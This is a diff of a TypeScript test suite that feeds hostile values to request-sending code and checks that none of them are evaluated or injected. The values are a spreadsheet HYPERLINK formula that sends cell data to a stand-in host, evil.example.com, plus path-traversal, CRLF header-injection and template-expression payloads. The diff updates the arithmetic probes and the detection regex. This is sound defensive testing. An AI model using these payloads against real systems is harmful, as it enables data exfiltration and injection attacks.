@@ -73,13 +73,13 @@ function fillFields(value: unknown, email: unknown): object {
 /** Values that could become a formula, a path, a header, code, or an expression, or that are too long or no text. */
 const HOSTILE = [
 	'=HYPERLINK("http://evil.example.com/?"&A1)\'/../..\\',
-	'a\r\nX-Injected: 1\r\n\r\n{{ 7*191 }} ={{ 7*191 }} ${7*191}\u2028',
+	'a\r\nX-Injected: 1\r\n\r\n{{ 7919*7907 }} ={{ 7919*7907 }} ${7919*7907}\u2028',
 	'字'.repeat(200),
 	{ toString: 1, valueOf: 1 },
 ];
 
 /** This address contains an expression, but is valid, so templates use it. */
-const EMAIL = "={{7*191}}'/`${7*191}`@example.com";
+const EMAIL = "={{7919*7907}}'/`${7919*7907}`@example.com";
 
 const WHY = 'the service says why';
 const usesHttpRequest = (file: string) =>
@@ -136,7 +136,7 @@ describe.each(sending)('%s', (file, { sends, ...fixture }) => {
 			const headers = requests.map((request) => Object.keys(request.headers));
 			expect(headers).toEqual(usual.requests.map((request) => Object.keys(request.headers)));
 			// Signs of an evaluated value, of an injected line, or of a missing value
-			expect(JSON.stringify(sent)).not.toMatch(/1337|\\[rn]X-Inj|[\u2028\u0085]|undefined|\[obj/);
+			expect(JSON.stringify(sent)).not.toMatch(/62615533|\\[rn]X-Inj|[\u2028\u0085]|undefined|\[obj/);
 		}
 	});
 
